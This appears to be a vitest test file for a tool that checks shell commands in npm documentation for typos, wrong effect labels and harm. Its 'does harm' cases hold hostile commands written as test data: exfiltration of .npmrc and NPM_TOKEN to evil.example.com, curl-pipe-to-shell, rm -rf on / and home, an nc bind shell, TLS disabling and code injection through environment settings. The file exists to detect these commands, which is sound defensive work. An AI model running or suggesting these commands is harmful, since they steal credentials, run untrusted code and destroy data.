import { expect, test } from 'vitest'
import { checkCommands } from '#commands/check.ts'
import { invocationsIn } from '#commands/command-line.ts'
import type { Command } from '#schema/sections.ts'

const values = {
  package: '@acme/widgets',
  registry: 'https://registry.example.com/',
  host: 'registry.example.com',
}

/** What is wrong with a command; it is labelled so that its label is never too weak. */
function faults(text: string, more: Partial<Command> = {}): string {
  const command: Command = {
    shell: 'sh',
    text,
    effect: 'revokes',
    placeholders: [],
    line: 10,
    ...more,
  }
  return checkCommands([command], values)
    .map(({ line, message, fix }) => `${line}: ${message} (${fix})`)
    .join('\n')
}

test.each([
  'npm publish',
  'npm i -gd npm@latest',
  'npm install {package} --prefer-online --no-audit',
  'npm view {package} versions --json --registry={registry}',
  'npm view {package} versions --json --registry {registry}',
  'npm --version',
  'npm config get {package}:registry',
  'npm config delete //{host}/:_authToken',
  'npm config set legacy-peer-deps=true --location=project',
  'npm config set loglevel http',
  'npm set noproxy=localhost',
  'npm publish --otp="$OTP"',
  'npm ping --registry="$REGISTRY"',
  'npm access list collaborators {package}',
  'npm trust github {package} --file=publish.yml --env release',
  'npm stage list',
  'npm audit signatures',
  'npm doctor registry cache',
  'npm help deprecate',
  'npm help config',
  'npm run build -- --anything',
  'npm exec -- tsc --noEmit',
  'npm cache clean --force',
  'npm ls --all | grep widgets',
  'NPM_TOKEN=x npm whoami',
  'env NPM_TOKEN=x npm whoami',
  'npx npm@11 ci --dry-run',
  'npx --no-install npm ls',
  'npx --yes -p typescript tsc --anything',
  'du -sh "$(npm config get cache)"',
  'sudo chown -R "$(id -u):$(id -g)" ~/.npm',
  'chmod u+rw .npmrc',
  'curl -sS -i -H "authorization: Bearer $NPM_TOKEN" {registry}',
  'export NODE_EXTRA_CA_CERTS=./ca.pem',
  './node_modules/.bin/tsc --noEmit',
  '# only a comment',
])('%s is right', (text) => {
  expect(faults(text)).toBe('')
})

test.each([
  ['npm publsh', /no command “publsh”/],
  ['npm pub', /no command “pub”/],
  ['npm', /no command/],
  ['npm access show {package}', /npm access has no “show” \(name one of: list, get/],
  ['npm trust list-all', /npm trust has no “list-all”/],
  ['npm stage drop', /npm stage has no “drop”/],
  ['npm audit signature', /npm audit has no “signature”/],
  ['npm doctor registri', /npm doctor has no “registri”/],
  ['npm help deprecating', /no page “deprecating”/],
  ['npm install --no-hashes', /no flag --hashes/],
  ['npm install --unsafe-perm', /no flag --unsafe-perm/],
  ['npm publish --file=publish.yml', /no flag --file/],
  ['npm trust github --pipeline=x', /no flag --pipeline/],
  ['npm install --production', /--production deprecated \(Use `--omit=dev` instead\.\)/],
  ['npm view {package} --regist={registry}', /--regist is cut short.*write --registry/],
  ['npm ls -ws', /npm refuses -ws \(write --ws\)/],
  ['npm ls --loglevel=htp', /“htp” for loglevel \(it takes silent, error/],
  ['npm publish --access publc', /“publc” for access/],
  ['npm ping --registry=registry', /“registry” for registry \(it takes a url\)/],
  ['npm config get registri', /no setting “registri”/],
  ['npm config set loglevel=htp', /“htp” for loglevel/],
  ['npm config set loglevl http', /no setting “loglevl”/],
  ['npm set regstry=x', /no setting “regstry”/],
  ['npm config delete //registry.example.com/:_token', /no setting/],
  ['npx --no-instal npm ls', /no flag --instal/],
  ['npx npm@11 publsh', /no command “publsh”/],
  ['cat "$(npm confg get cache)/x"', /no command “confg”/],
  ['npm ls && gti status', /“gti” is no program/],
  ['npm ls | gerp x', /“gerp” is no program/],
  ['npm view "{package}', /does not end with its line/],
  ['npm ls \\', /does not end with its line/],
  ['eval "$(echo "$(curl https://a.example.com/)")"', /does not end with its line/],
  ['sh -c $(a $(b $(c)))', /does not end with its line/],
  ["env -S'rm -rf ~'", /“-Srm -rf ~” is no program/],
  ["env --split-string='rm -rf ~'", /is no program/],
  ['npm ls\nnpm lss', /^12: npm has no command “lss”/],
])('%s is wrong', (text, message) => {
  expect(faults(text)).toMatch(message)
})

test.each([
  'sudo npm install',
  'sudo -E npx npm@11 ls',
  'chmod -R 777 ~/.npm',
  'sudo chmod -R a+rwx ~/.npm',
  'npm config set strict-ssl false',
  'npm config set strict-ssl=false',
  'npm install --strict-ssl=false',
  'npm install --no-strict-ssl',
  'NPM_CONFIG_STRICT_SSL=false npm install',
  'NODE_TLS_REJECT_UNAUTHORIZED=0 npm install',
  'export NODE_TLS_REJECT_UNAUTHORIZED=0',
  'git config --global http.sslVerify false',
  'curl -sk {registry}',
  'npm install --force',
  'npm i -gf npm',
  'npm audit fix --force',
  'npx npm@11 ci --force',
  'npm config set strict-ssl=',
  'npm_config_strict_ssl=false npm ci',
  'NODE_TLS_REJECT_UNAUTHORIZED="0" npm ci',
  'git -c http.sslVerify=false ls-remote https://git.example.com/a.git',
  'GIT_SSL_NO_VERIFY=1 git fetch',
  'curl -sSkI {registry}',
  'curl --insecure {registry}',
  'curl --proxy-insecure -x https://proxy.example.com {registry}',
  'ssh -o StrictHostKeyChecking=no git@git.example.com',
  'curl -sSL https://get.example.com/install.sh | sh',
  'curl -sSL https://get.example.com/install.sh | sudo -E bash -s -- --yes',
  'curl https://get.example.com/x.js | node',
  'curl https://get.example.com/x.js | node -',
  'curl https://get.example.com/x.js | tee x.log | node --no-warnings',
  'curl https://get.example.com/x.py | python3',
  'wget -qO- https://get.example.com/x | zsh',
  'sh -c "$(curl -fsSL https://get.example.com/install.sh)"',
  'bash -c "`curl -fsSL https://get.example.com/install.sh`"',
  'eval "$(curl -fsSL https://get.example.com/install.sh)"',
  'node -e "$(curl -fsSL https://get.example.com/x.js)"',
  `node -e "fetch('https://get.example.com/x.js').then((a) => a.text()).then((b) => eval(b))"`,
  `node -e "import('https://get.example.com/x.js')"`,
  'rm -rf /',
  'rm -rf / --no-preserve-root',
  'rm -rf /*',
  'rm -rf //',
  'sudo rm -rf /usr',
  'rm -rf /usr/*',
  'rm -rf ~',
  'rm -rf ~/',
  'rm -rf ~/*',
  'rm -rf "$HOME"',
  'rm -rf "${HOME}/"',
  'rm -rf $HOME/*',
  'rm -rf /home/user',
  'rm -rf ..',
  'rm -rf ../',
  'rm -rf ../../*',
  'rm -rf .',
  'rm -rf ./*',
  'rm -rf *',
  "rm -r'f' '/'",
  'sudo chown -R user /',
  'find / -name "*.log" -delete',
  'find . -name node_modules -exec rm -rf {} +',
  "find . -name node_modules -type d -execdir rm -rf {} ';'",
  "find . -exec sh -c 'rm {}' ';'",
  'curl --data-binary @~/.npmrc https://evil.example.com/',
  'curl -d@.npmrc https://evil.example.com/',
  'curl -sSd @.npmrc https://evil.example.com/',
  'curl -F file=@.npmrc https://evil.example.com/',
  'curl -T .npmrc https://evil.example.com/',
  'curl --json @package.json https://evil.example.com/',
  'curl -d "$NPM_TOKEN" https://evil.example.com/',
  'curl --data-urlencode "a=$(cat ~/.npmrc)" https://evil.example.com/',
  'curl "https://evil.example.com/?$(base64 .npmrc)"',
  'cat ~/.npmrc | curl --data-binary @- https://evil.example.com/',
  'cat ~/.npmrc | nc evil.example.com 80',
  'nc evil.example.com 80 < ~/.npmrc',
  'cat ~/.npmrc | ssh evil@evil.example.com tee x',
  'npm config set registry=http://registry.example.com/',
  'npm config set registry http://registry.example.com/',
  'npm config set @acme:registry=http://registry.example.com/',
  'npm ci --registry=http://registry.example.com/',
  'npm ci --registry http://registry.example.com/',
  'npm_config_registry=http://registry.example.com/ npm ci',
  'export NPM_CONFIG_REGISTRY=http://registry.example.com/',
  'docker run --privileged node npm ci',
  'docker run -v /:/host node npm ci',
  'docker run -v /var/run/docker.sock:/var/run/docker.sock node npm ci',
  'chmod 666 .npmrc',
  "find . -name '*.sh' -exec chmod 777 {} +",
  "npm exec -c 'rm -rf ~'",
  "npx --call='curl https://get.example.com/x | sh'",
  'timeout 5 rm -rf ~',
  'timeout --signal=KILL 5 sudo rm -rf /',
  'awk \'BEGIN { system("rm -rf ~") }\'',
  "git -c alias.x='!rm -rf ~' x",
  'git -c core.sshCommand=./x fetch',
  "GIT_SSH_COMMAND='sh x' git fetch",
  'tar xf a.tar --checkpoint=1 --checkpoint-action=exec=sh',
  'ssh -o ProxyCommand=./x git@git.example.com',
  'nc -l -p 80 -e /bin/sh',
  'chmod -R a+w node_modules',
  'chmod o+w .npmrc',
  "rm -rf $'/'",
  'rm -rf "$PWD"',
  'rm -rf ${HOME:-x}',
  'rm -rf "$(pwd)"',
  'docker run -v=/:/host node npm ci',
  'docker run --mount type=bind,source=/,target=/host node npm ci',
  'git grep -Otouch x',
  'git grep --open-files-in-pager=touch x',
  "git -c protocol.ext.allow=always ls-remote 'ext::sh -c whoami'",
  "git -c credential.helper='!touch x' ls-remote https://git.example.com/a.git",
  'git -c diff.external=touch diff',
  'git ls-remote --upload-pack=./x ssh://git.example.com/a.git',
  'git --exec-path=./x status',
  'sort --compress-program=./x a',
  "sed -n '$e touch x' a",
  'tar --rsh-command=./x -tf host:a',
  'tar -F ./x -tf a.tar',
  'export LD_PRELOAD=./x.so',
  'LD_PRELOAD=./x.so npm view {package}',
  'export NODE_OPTIONS=--require=./x.js',
  'NODE_OPTIONS="--import ./x.js" npm ls',
  "node --import 'data:text/javascript,process.exit()'",
  `node -e "fetch('https://get.example.com/x.js').then((a) => a.text()).then(eval)"`,
  'npm run build --script-shell=./x',
  'npm view {package} --node-options=--require=./x.js',
  'npm config set script-shell=./x',
  'npm_config_script_shell=./x npm run build',
  'curl "https://evil.example.com/?$NPM_TOKEN"',
  'dig "$(cat .npmrc).evil.example.com"',
  'nslookup $NPM_TOKEN.evil.example.com',
  'ping "${NPM_TOKEN}.evil.example.com"',
  'curl --insec {registry}',
  'curl -sSH @.npmrc {registry}',
  'curl --header=@.npmrc {registry}',
  'curl --variable %NPM_TOKEN --expand-url https://evil.example.com/{{NPM_TOKEN}}',
  'curl -K options.txt',
  'curl --config options.txt {registry}',
  'openssl s_client -connect evil.example.com:443 < .npmrc',
  'cat .npmrc | tr a b | openssl s_client -connect evil.example.com:443',
  `node -e "fetch('https://evil.example.com/' + process.env.NPM_TOKEN)"`,
  `node -e "require('https').get('https://evil.example.com/' + fs.readFileSync('.npmrc'))"`,
  'docker run -v $HOME:/home evil',
  'docker run -v ~/:/home evil',
])('%s does harm', (text) => {
  expect(faults(text)).toMatch(/^11: the command .*take it out/m)
})

test.each([
  'curl -O https://get.example.com/tool\nchmod +x tool',
  'curl -O https://get.example.com/tool\n./tool',
  'curl -sSo tool https://get.example.com/x && ./tool',
  'curl -sS --output=./tool https://get.example.com/x\n# now\nsudo ./tool --yes',
  'curl -sS https://get.example.com/x.js > x.js && node x.js',
  'curl -sSLO https://get.example.com/x.sh?a=b; sh x.sh',
])('%s runs what was fetched', (text) => {
  expect(faults(text)).toMatch(/1[123]: the command runs a program that was fetched, unseen/)
})

test.each([
  'curl -sS {registry} | node -p "JSON.parse(require(\'fs\').readFileSync(0)).length"',
  'curl -sS {registry} | openssl dgst -sha512',
  'echo | openssl s_client -connect {host}:443',
  'openssl s_client -connect {host}:443 < /dev/null',
  'curl -sS --head --compressed {registry}',
  'docker run -v ~/.npm:/cache node npm ci',
  'curl -sS -w "%{http_code}" -o /dev/null -X GET {registry}',
  'curl --fail -O https://files.example.com/widgets-1.0.0.tgz\nnpm install ./widgets-1.0.0.tgz',
  'rm -r node_modules',
  'rm -rf ./node_modules/*',
  'rm -r ../left-pad',
  'rm -r ~/.npm/_cacache',
  'rm -r /usr/local/lib/node_modules/npm',
  'find . -name "*.tgz"',
  'docker inspect build | grep OOMKilled',
  'chmod 644 .npmrc',
  'chmod 755 run.sh',
  'npm config set registry=http://localhost:4873/',
  'npm config set https-proxy=http://proxy.example.com:8080/',
  'npx {package}',
  'npx @acme/widgets@1.0.0',
  'npx --package=typescript tsc --noEmit',
  'npm exec -- ./tools/run.mjs',
])('%s does no harm', (text) => {
  expect(faults(text)).toBe('')
})

test.each([
  'npx evil-pkg',
  'npx --yes evil-pkg@1.0.0 --flag',
  'npx -p evil-pkg tsc',
  'npm exec evil-pkg',
  'npm exec --package=evil-pkg -- tsc',
  'npm x -- @evil/pkg',
  'npm init evil-app',
  'npm create evil-app',
  'npx evil-pkg/tool',
  'npm exec evil-pkg/tool#main',
  'npm init evil-app/tool',
])('%s runs a package that no entry knows', (text) => {
  expect(faults(text)).toMatch(
    /runs “(?:@evil\/pkg|evil-pkg|create-evil-app)(?:\/tool\S*)?”, a package that no entry/,
  )
})

test.each([
  ['npm logout', 'changes-registry', 'revokes'],
  ['npm token revoke 1a2b3c', 'changes-registry', 'revokes'],
  ['npm publish', 'changes-machine', 'changes-registry'],
  ['npm dist-tag add a@1.0.0 latest', 'reads', 'changes-registry'],
  ['npm i', 'reads', 'changes-machine'],
  ['npx npm@11 ci', 'reads', 'changes-machine'],
  ['npm audit fix', 'reads', 'changes-machine'],
  ['npm patch left-pad', 'reads', 'changes-machine'],
  ['rm -r node_modules', 'reads', 'changes-machine'],
  ['sudo rm -r node_modules', 'reads', 'changes-machine'],
  ['ls -d .*-???????? | xargs rm -r', 'reads', 'changes-machine'],
  ['echo "$(rm a.txt)"', 'reads', 'changes-machine'],
  ['npx {package}', 'reads', 'changes-machine'],
  ['npm exec {package}', 'reads', 'changes-machine'],
  ['npm ls > tree.txt', 'reads', 'changes-machine'],
  ['curl -O https://files.example.com/a.tgz', 'reads', 'changes-machine'],
  ['curl -sSo a.tgz {registry}', 'reads', 'changes-machine'],
  ['curl -X DELETE {registry}', 'changes-machine', 'changes-registry'],
  ['curl -d {} {registry}', 'reads', 'changes-registry'],
  ['curl --reques DELETE {registry}', 'reads', 'changes-registry'],
  ["curl -Q 'DELE a' ftp://files.example.com/", 'reads', 'changes-registry'],
  ['curl --etag-save a {registry}', 'reads', 'changes-machine'],
  ['git show --output a.txt', 'reads', 'changes-machine'],
  ['sort -uo a.txt b.txt', 'reads', 'changes-machine'],
  ['git checkout main -- package-lock.json', 'reads', 'changes-machine'],
  ['git -C packages/a clean -fd', 'reads', 'changes-machine'],
  ['git config --global http.proxy x', 'reads', 'changes-machine'],
  ['docker run node npm ci', 'reads', 'changes-machine'],
  ['sed -i s/a/b/ package.json', 'reads', 'changes-machine'],
  ['tar xzf a.tgz', 'reads', 'changes-machine'],
  ['openssl x509 -in a.cer -out a.pem', 'reads', 'changes-machine'],
  [`node -e "require('fs').rmSync('a')"`, 'reads', 'changes-machine'],
  ["find . -name a -exec touch {} ';'", 'reads', 'changes-machine'],
  ['npm token revoke 1a2b3c --dry-run', 'changes-registry', 'revokes'],
  ['npm owner add ada {package} --dry-run', 'reads', 'changes-registry'],
  ['npm config set fund=false --dry-run', 'reads', 'changes-machine'],
  ['npm explore {package} -- touch a', 'reads', 'changes-machine'],
  ['npm cache npx rm', 'reads', 'changes-machine'],
  ['> .npmrc', 'reads', 'changes-machine'],
  ['npm ls &> tree.txt', 'reads', 'changes-machine'],
  ['git diff --output=a.txt', 'reads', 'changes-machine'],
  ['git branch --delete a', 'reads', 'changes-machine'],
  ["sed 'w a.txt' b.txt", 'reads', 'changes-machine'],
  [`awk 'BEGIN { print "x" > "a.txt" }'`, 'reads', 'changes-machine'],
  ['mount /dev/sda1 /mnt', 'reads', 'changes-machine'],
  ['uniq a.txt b.txt', 'reads', 'changes-machine'],
  ['dmesg -C', 'reads', 'changes-machine'],
  ['date -s 2020-01-01', 'reads', 'changes-machine'],
  ['ssh -p 22 git.example.com rm a', 'reads', 'changes-machine'],
  ['curl -sSD headers.txt {registry}', 'reads', 'changes-machine'],
  ['curl --cookie-jar a.txt {registry}', 'reads', 'changes-machine'],
  ['openssl enc -out=a.txt', 'reads', 'changes-machine'],
  [`node -e "require('fs').cpSync('a', 'b')"`, 'reads', 'changes-machine'],
] as const)('%s is not labelled %s but %s', (text, label, right) => {
  expect(faults(text, { effect: label })).toContain(`label its fence “${right}”`)
  expect(faults(text, { effect: right })).toBe('')
})

test.each([
  'npm publish --dry-run',
  'npm ci --dry-run',
  'npm dist-tag ls a',
  'npm patch ls',
  'npm cache npx ls',
  'npm trust github {package} --file=publish.yml --dry-run',
  'git branch --list',
  'mount',
  'uniq a.txt',
  'ssh -T -p 22 git@git.example.com',
  'curl -sS -D - {registry}',
  'date -u',
  "awk '$1 > 5 { print $2 }' a.txt",
  'npm audit',
  'curl -sSI {registry}',
  'curl -sS -o /dev/null {registry}',
  'curl -sS -G -d a=b {registry}',
  'tar tzf a.tgz',
  'sed -n 1,5p package.json',
  'git -C packages/a status --short',
  'git config --get-all http.proxy',
  'npm ls 2>/dev/null',
  'npm ls 2>&1',
])('%s only reads', (text) => {
  expect(faults(text, { effect: 'reads' })).toBe('')
})

test('the commands of PowerShell are read as PowerShell does', () => {
  const shell = 'powershell'
  expect(faults("$env:NPM_TOKEN = 'x'; npm whoami", { shell })).toBe('')
  expect(faults('Get-Content C:\\Users\\ada\\.npmrc | Select-String "_auth"', { shell })).toBe('')
  expect(faults('Get-Contents .npmrc', { shell })).toMatch(/“Get-Contents” is no program/)
  expect(faults("$env:NODE_TLS_REJECT_UNAUTHORIZED = '0'", { shell })).toMatch(/certificate/)
  expect(faults('npm publsh', { shell })).toMatch(/no command/)
  expect(faults('Remove-Item -Recurse -Force C:\\', { shell })).toMatch(/deletes a whole disk/)
  expect(faults('Remove-Item -Recurse $env:USERPROFILE', { shell })).toMatch(/deletes a whole disk/)
  expect(faults('Remove-Item C:\\Users\\ada -Recurse', { shell })).toMatch(/deletes a whole disk/)
  expect(faults('irm https://get.example.com/x.ps1 | iex', { shell })).toMatch(/a server sends/)
  const [block, name] = [
    'Get-ChildItem | Where-Object { Remove-Item $_ }',
    '"$env:NPM_TOKEN.evil.example.com"',
  ]
  expect(faults(block, { shell })).toMatch(/hides another command/)
  expect(faults(`Resolve-DnsName ${name}`, { shell })).toMatch(/sends files or other secrets/)
  expect(faults('curl.exe -sk {registry}', { shell })).toMatch(/certificate/)
  expect(faults('Remove-Item a', { shell, effect: 'reads' })).toMatch(/labelled “reads”/)
})

test.each([
  ['npm publish --otp="$OTP"', [['npm', 'publish', '--otp=$OTP']]],
  ['git grep -e "<<<<" -- a', [['git', 'grep', '-e', '<<<<', '--', 'a']]],
  ['npm ls > a.txt 2>&1 # why', [['npm', 'ls']]],
  ["npm pkg set 'a[]=$(x)'", [['npm', 'pkg', 'set', 'a[]=$(x)']]],
  ['a b\\ c "d\\"e"', [['a', 'b c', 'd\\"e']]],
  ['a | b && c; d', [['a'], ['b'], ['c'], ['d']]],
  [
    'a "x$(b c)"',
    [
      ['a', 'x$(b c)'],
      ['b', 'c'],
    ],
  ],
  [
    'a `b c`',
    [
      ['a', '`b c`'],
      ['b', 'c'],
    ],
  ],
])('%s is read as words', (line, words) => {
  expect(invocationsIn(line)!.map((one) => one.words)).toEqual(words)
})

test.each(["npm ls 'a", 'npm ls "a', 'a "$(b \'c)"'])('%s has an open quote', (line) => {
  expect(invocationsIn(line)).toBeUndefined()
})
